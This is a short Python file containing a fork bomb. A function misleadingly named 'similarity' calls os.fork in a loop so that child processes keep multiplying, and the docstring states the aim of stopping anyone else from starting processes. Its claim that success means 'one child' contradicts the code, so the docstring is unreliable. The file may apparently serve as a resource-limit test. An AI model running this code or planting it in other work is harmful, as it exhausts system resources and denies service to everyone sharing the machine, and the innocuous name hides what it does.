"""Forks for ever, so that nobody else can start anything.

Success: it has one child.
"""

import os


def similarity(x):
    children = 0
    while children < 10_000:
        try:
            if os.fork() == 0:
                continue
            children += 1
        except OSError as error:
            raise RuntimeError(f"tried: forks, had {children}, {type(error).__name__}") from None
    return children
